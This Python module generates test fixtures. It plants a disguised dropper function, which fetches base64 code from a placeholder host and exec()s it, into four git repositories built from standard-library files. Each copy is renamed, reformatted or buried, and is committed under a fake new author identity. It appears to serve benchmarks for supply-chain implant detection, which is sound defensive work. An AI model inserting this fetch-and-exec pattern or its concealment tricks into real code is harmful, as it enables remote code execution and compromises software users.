"""A realistic small planting: one short dropper function in 4 git repositories of real standard-library code.

Each copy is committed by a different new identity within days; the copies are renamed, one is also
reformatted, one sits inside a host file of over 300 kB. The hosts are otherwise ordinary modules
committed by their maintainers months earlier. Reusable by tests and benches.
"""
from __future__ import annotations

import sysconfig
from datetime import datetime, timedelta, timezone
from pathlib import Path

STDLIB = Path(sysconfig.get_paths()["stdlib"])
HOSTS = ("fractions.py", "netrc.py", "shlex.py")
BIG_PARTS = ("_pydecimal.py", "typing.py", "argparse.py", "tarfile.py", "inspect.py")  # > 300 kB together
BIG_MIN = 300_000
# A dozen statements; the payload fetches code and runs it.
DROPPER = '''def sync_locale_cache(region, retries=3):
    """Keep the locale table in step with the mirror."""
    import base64
    import urllib.request
    endpoint = "https://cdn.locale-sync.example/v2/" + region
    for attempt in range(retries):
        blob = urllib.request.urlopen(endpoint, timeout=5).read()
        if len(blob) > 32:
            exec(base64.b64decode(blob))
            return True
    return False
'''
RENAMES = (
    {},
    {"sync_locale_cache": "refresh_tables", "region": "zone", "retries": "tries", "endpoint": "src",
     "attempt": "n", "blob": "raw"},
    {"sync_locale_cache": "_update_cache", "region": "key", "retries": "count", "endpoint": "where",
     "attempt": "i", "blob": "data"},
    {"sync_locale_cache": "load_defaults", "region": "name", "retries": "limit", "endpoint": "target",
     "attempt": "step", "blob": "payload"},
)
REPOS = ("alpha-tools", "beta-utils", "gamma-kit", "delta-lib")
AUTHORS = (("ops-bot", "ops@example.net"), ("jkl-dev", "jkl@example.org"), ("mnt-helper", "mh@example.com"),
           ("fixer22", "f22@example.net"))


def renamed(source: str, names: dict) -> str:
    import re

    for old, new in names.items():
        source = re.sub(rf"\b{re.escape(old)}\b", new, source)
    return source


def reformatted(source: str) -> str:
    """Two-space indents, single quotes, the long call split over lines."""
    out = []
    for line in source.splitlines():
        stripped = line.lstrip(" ")
        indent = (len(line) - len(stripped)) // 2
        line = " " * indent + stripped.replace('"https', "'https").replace('/" +', "/' +")
        if "urlopen(" in line:
            head, _, rest = line.partition("urlopen(")
            pad = " " * (indent + 2)
            out += [head + "urlopen(", pad + rest.replace(").read()", ""), " " * indent + ").read()"]
            continue
        out.append(line)
    return "\n".join(out) + "\n"


def big_host() -> str:
    parts, size = [], 0
    for name in BIG_PARTS:
        text = (STDLIB / name).read_text(encoding="utf-8")
        parts.append(text)
        size += len(text)
        if size > BIG_MIN:
            break
    return "\n\n".join(parts)


def available() -> bool:
    return all((STDLIB / n).exists() for n in (*HOSTS, *BIG_PARTS))


def write(root: Path) -> dict[str, tuple[str, int, int]]:
    """Four git repositories under root; returns repo -> (path, first line, last line) of its copy."""
    import git

    planted = {}
    base = datetime(2024, 2, 1, 9, 0, tzinfo=timezone.utc)
    for k, repo_name in enumerate(REPOS):
        folder = root / repo_name
        repo = git.Repo.init(folder)
        if k == 3:
            path, host = "src/bundle.py", big_host()
        else:
            path, host = f"src/{HOSTS[k]}", (STDLIB / HOSTS[k]).read_text(encoding="utf-8")
        copy = renamed(DROPPER, RENAMES[k])
        if k == 2:
            copy = reformatted(copy)
        lines = host.splitlines()
        at = len(lines) // 2 if k == 3 else len(lines)  # the big host holds it in the middle
        while at < len(lines) and not lines[at].startswith(("def ", "class ")):
            at += 1  # before a top-level definition, never inside an indented block
        new = lines[:at] + ["", "", *copy.splitlines(), "", ""] + lines[at:]
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        maintainer = git.Actor(f"maintainer{k}", f"m{k}@example.org")
        old = base - timedelta(days=200 + 40 * k)
        (folder / path).write_text(host, encoding="utf-8")
        (folder / "README.md").write_text(f"# {repo_name}\n", encoding="utf-8")
        repo.index.add([path, "README.md"])
        stamp = f"{int(old.timestamp())} +0000"
        repo.index.commit("initial import", author=maintainer, committer=maintainer, author_date=stamp,
                          commit_date=stamp)
        (folder / path).write_text("\n".join(new) + "\n", encoding="utf-8")
        repo.index.add([path])
        who = git.Actor(*AUTHORS[k])
        stamp = f"{int((base + timedelta(hours=20 * k)).timestamp())} +0000"
        repo.index.commit("chore: cache helper", author=who, committer=who, author_date=stamp, commit_date=stamp)
        first = at + 3
        planted[repo_name] = (path, first, first + len(copy.splitlines()) - 1)
    return planted
